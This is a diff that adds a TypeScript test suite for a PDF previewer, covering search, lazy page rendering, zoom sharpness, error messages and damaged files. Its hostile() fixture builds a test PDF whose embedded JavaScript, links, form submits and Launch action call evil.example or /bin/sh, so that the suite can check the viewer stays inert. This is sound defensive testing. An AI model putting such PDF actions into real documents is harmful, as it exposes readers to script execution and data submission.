@@ -1,0 +1,153 @@
+import { PDFDocument, PDFName, PDFString, StandardFonts, rgb } from 'pdf-lib';
+import type { Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { expectInert, troubleOf, type PreviewRig } from './preview-rig.ts';
+
+export function pdfSuite(rig: () => PreviewRig): void {
+  describe('of a PDF', () => {
+    it('draws its pages, finds words on a page far down, and goes there', async () => {
+      const page = await rig().show('manual.pdf', await manual(200));
+      await page.getByText('of 200').waitFor();
+      await drawn(page, 1);
+      await page.getByRole('searchbox', { name: 'Find in this file' }).fill('valve 187');
+      await page.getByText('1 of 1', { exact: true }).waitFor();
+      const found = page.locator('.textLayer .highlight.selected');
+      await found.waitFor();
+      expect(await found.textContent()).toBe('Valve 187');
+      expect(await page.getByRole('textbox', { name: 'Page' }).inputValue()).toBe('187');
+      await drawn(page, 187);
+      await rig().shot(page, 'pdf-search');
+    });
+
+    it('keeps only pages near the view', async () => {
+      const page = await rig().show('manual.pdf', await manual(200));
+      await drawn(page, 1);
+      expect(await page.locator('.pdfViewer .page').count()).toBe(200);
+      for (const number of ['60', '120', '200']) {
+        await page.getByRole('textbox', { name: 'Page' }).fill(number);
+        await page.keyboard.press('Enter');
+        await drawn(page, Number(number));
+      }
+      expect(await page.locator('.pdfViewer canvas').count()).toBeLessThan(15);
+    });
+
+    it('is sharp at any size: a hair line stays one', async () => {
+      const page = await rig().show('plan.pdf', await hairLine());
+      await page.getByText('of 1', { exact: true }).waitFor();
+      for (let step = 0; step < 12; step += 1) await page.getByRole('button', { name: 'Larger' }).click();
+      const share = async (): Promise<number> =>
+        Number.parseInt((await page.locator('.zoom-share').textContent())?.replace(',', '') ?? '', 10);
+      await expect.poll(share).toBeGreaterThan(1500);
+      // Half a point at this size; a stretched picture of a smaller one would be a blur of grey.
+      await expect
+        .poll(() => blackWidth(page), { timeout: 10_000 })
+        .toBeCloseTo((0.5 * (await share())) / 75, -1);
+      await rig().shot(page, 'pdf-sharp');
+    });
+
+    it('runs no script, submits no form, follows no link to outside', async () => {
+      const page = await rig().show('hostile.pdf', await hostile());
+      await drawn(page, 1);
+      const link = page.locator('.annotationLayer a').first();
+      await link.waitFor({ state: 'attached' });
+      const before = page.url();
+      await link.click({ force: true, position: { x: 4, y: 4 } });
+      expect(page.url().replace(/#$/, '')).toBe(before);
+      expect(page.context().pages()).toHaveLength(1);
+      expect(await page.title()).toBe('Previews · SiteSync');
+      expectInert(rig());
+    });
+
+    it.each([
+      ['letter.pdf', 'Dear Sir', 'is no PDF'],
+      ['empty.pdf', '', 'is empty'],
+      ['torn.pdf', '%PDF-1.7\n1 0 obj << /Type /Catalog', 'is damaged and cannot be opened'],
+    ])('says what is wrong with %s', async (name, content, words) => {
+      expect(await troubleOf(await rig().show(name, content))).toContain(words);
+    });
+
+    it('opens one whose table of objects lies, as far as it can be read', async () => {
+      const bytes = Buffer.from(await manual(3));
+      const at = bytes.lastIndexOf('startxref');
+      bytes.write('startxref\n99999999', at, 'latin1');
+      await drawn(await rig().show('lying.pdf', bytes), 1);
+    });
+
+    it('has no tools beside a list', async () => {
+      const page = await rig().show('manual.pdf', await manual(2), { where: 'panel' });
+      await drawn(page, 1);
+      expect(await page.getByRole('toolbar').count()).toBe(0);
+      expect((await page.locator('.preview').boundingBox())!.height).toBeLessThan(300);
+    });
+  });
+}
+
+/** Waits until a page has dark letters on its canvas. */
+async function drawn(page: Page, number: number): Promise<void> {
+  const canvas = page.locator(`.page[data-page-number="${number}"] canvas`).first();
+  await canvas.waitFor();
+  await expect
+    .poll(() =>
+      canvas.evaluate((element: HTMLCanvasElement) => {
+        const { data } = element.getContext('2d')!.getImageData(0, 0, element.width, element.height);
+        return data.some((value, at) => at % 4 === 0 && value < 100 && data[at + 3] === 255);
+      }),
+    )
+    .toBe(true);
+}
+
+/** Screen pixels of black on a line across the middle of what is in view. */
+function blackWidth(page: Page): Promise<number> {
+  return page.evaluate(() => {
+    const { left, top, width, height } = document.querySelector('.pdf-pages')!.getBoundingClientRect();
+    const canvases = [...document.querySelectorAll<HTMLCanvasElement>('.page canvas')];
+    const sharpest = canvases.toSorted(
+      (a, b) => a.getBoundingClientRect().width / a.width - b.getBoundingClientRect().width / b.width,
+    )[0]!;
+    const box = sharpest.getBoundingClientRect();
+    const scale = sharpest.width / box.width;
+    const y = Math.round((top + height / 2 - box.top) * scale);
+    const from = Math.max(0, Math.round((left - box.left) * scale));
+    const { data } = sharpest.getContext('2d')!.getImageData(from, y, Math.round(width * scale), 1);
+    let black = 0;
+    for (let at = 0; at < data.length; at += 4) if (data[at]! < 60 && data[at + 3] === 255) black += 1;
+    return black / scale;
+  });
+}
+
+async function manual(pages: number): Promise<Uint8Array> {
+  const document = await PDFDocument.create();
+  const font = await document.embedFont(StandardFonts.Helvetica);
+  for (let number = 1; number <= pages; number += 1)
+    document.addPage([420, 595]).drawText(`Valve ${number}`, { x: 40, y: 520, size: 24, font });
+  return document.save({ useObjectStreams: false });
+}
+
+async function hairLine(): Promise<Uint8Array> {
+  const document = await PDFDocument.create();
+  document.addPage([600, 400]).drawRectangle({ x: 300, y: 0, width: 0.5, height: 400, color: rgb(0, 0, 0) });
+  return document.save();
+}
+
+/** Scripts at opening, in a link and in a form; links to outside, to a program, and to another file. */
+async function hostile(): Promise<Uint8Array> {
+  const document = await PDFDocument.create();
+  document.addJavaScript('main', "app.alert('run'); this.submitForm('https://evil.example/form');");
+  const { context } = document;
+  const page = document.addPage([300, 300]);
+  page.drawText('Press me', { x: 40, y: 150 });
+  const actions = [
+    { S: 'URI', URI: PDFString.of('https://evil.example/link') },
+    { S: 'JavaScript', JS: PDFString.of("app.launchURL('https://evil.example/js')") },
+    { S: 'Launch', F: PDFString.of('/bin/sh') },
+    { S: 'SubmitForm', F: PDFString.of('https://evil.example/form') },
+  ];
+  const annotations = actions.map((action, index) =>
+    context.register(
+      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [index * 60, 0, index * 60 + 60, 300], A: action }),
+    ),
+  );
+  page.node.set(PDFName.of('Annots'), context.obj(annotations));
+  document.catalog.set(PDFName.of('OpenAction'), context.obj(actions[1]!));
+  return document.save();
+}
